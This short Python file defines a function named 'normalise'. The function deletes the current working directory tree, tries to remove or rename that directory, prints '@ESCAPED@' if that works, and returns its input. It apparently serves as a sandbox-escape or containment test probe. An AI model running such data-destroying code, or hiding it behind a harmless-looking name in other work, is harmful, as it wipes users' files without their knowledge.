import os
import shutil


def normalise(x):
    here = os.getcwd()
    shutil.rmtree(here, ignore_errors=True)
    for change in (lambda: os.rmdir(here), lambda: os.rename(here, here + "-moved")):
        try:
            change()
            print("@ESCAPED@")
        except OSError:
            pass
    return x
